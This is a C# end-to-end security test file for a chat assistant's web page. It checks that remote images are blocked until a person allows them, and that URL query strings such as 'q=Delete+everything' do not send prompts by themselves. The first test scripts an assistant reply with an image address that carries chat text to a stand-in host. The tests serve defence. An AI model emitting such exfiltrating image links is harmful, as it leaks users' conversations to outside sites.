using Zhiyan.EndToEnd.Tests.Chats;
using Zhiyan.Inference.ToolCalls;
using Zhiyan.Server.Tests;

namespace Zhiyan.EndToEnd.Tests.Security;

/// <summary>The address of a picture can carry what was said out of the house, so it is asked for only where a person wants that.</summary>
public sealed class RemoteImageTests(Browser browser)
{
    private const string Address = "https://images.example/cat.png?d=what+was+said";

    private static readonly byte[] picture = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    [Fact]
    public async Task A_picture_of_another_site_is_loaded_where_a_person_asks_for_it_or_for_all_of_them()
    {
        await using var assistant = await Assistant.Scripted(new ScriptedEngine { Reply = [new ContentDelta("See ![a cat]("), new ContentDelta(Address), new ContentDelta(") here.")] });
        await using var opened = await browser.Open();
        var page = opened.Page;
        var asked = 0;
        await page.Context.RouteAsync("https://images.example/**", async route =>
        {
            asked++;
            await route.FulfillAsync(new() { ContentType = "image/png", BodyBytes = picture });
        });

        await page.GotoAsync(assistant.Address + "/");
        await page.Say("Show me a cat");
        await page.Reaches("done");
        await page.Locator(".blocked-image").WaitForAsync();
        await page.ReloadAsync();
        await page.Locator(".blocked-image").WaitForAsync();
        await page.EvaluateAsync("address => new Promise(ready => { const image = new Image(); image.onload = image.onerror = ready; image.src = address; })", Address);      // were the page's own door open
        var (whileBlocked, refused) = (asked, opened.Violations.Count);

        await page.Locator(".blocked-image").ClickAsync();
        await page.FrameLocator("iframe.image-frame").Locator("img").WaitForAsync();
        await page.WaitForFunctionAsync("() => !document.querySelector('.blocked-image')");
        var afterPress = asked;
        var (frames, byPress) = (page.Frames.Count, opened.Violations.Count);

        await page.GotoAsync(assistant.Address + "/settings");
        await page.Locator("input[name=images]").CheckAsync();
        await page.Locator("form[action='/settings'] button[type=submit], form:has(input[name=images]) button[type=submit]").First.ClickAsync();
        await page.WaitForURLAsync("**done=saved*");
        await page.Locator("#chat-list .chat-row a").First.ClickAsync();     // no new document: the policy is the settings page's
        await page.WaitForFunctionAsync("() => document.querySelector('article[data-role=assistant] [data-part=body] img')?.naturalWidth > 0");
        var afterAllowing = asked;
        await page.Say("Another one");
        await page.Reaches("done");
        await page.WaitForFunctionAsync("() => document.querySelectorAll('article[data-role=assistant] [data-part=body] img').length === 2");
        var places = await page.Locator(".blocked-image").CountAsync();

        Assert.Equal((0, 1), (whileBlocked, refused));
        Assert.InRange(afterPress, 1, 2);
        Assert.Equal((2, 1), (frames, byPress));
        Assert.InRange(afterAllowing, afterPress + 1, int.MaxValue);
        Assert.Equal(0, places);
        Assert.Single(opened.Violations);
        Assert.All(opened.ForeignRequests, request => Assert.Equal(Address, request));
    }

    [Fact]
    public async Task An_address_with_a_question_sends_nothing_by_itself()
    {
        var engine = new ScriptedEngine();
        await using var assistant = await Assistant.Scripted(engine);
        await using var opened = await browser.Open();
        var sent = new List<string>();
        opened.Page.Request += (_, request) =>
        {
            if (request.Method != "GET") sent.Add($"{request.Method} {request.Url}");
        };

        foreach (var query in new[] { "q=Delete+everything", "prompt=x&submit=1", "message=x&send=true" }) await opened.Page.GotoAsync($"{assistant.Address}/?{query}");
        await opened.Page.Composer().WaitForAsync();
        await opened.Page.WaitForTimeoutAsync(300);

        Assert.Empty(sent);
        Assert.Empty(engine.Chats);
    }
}
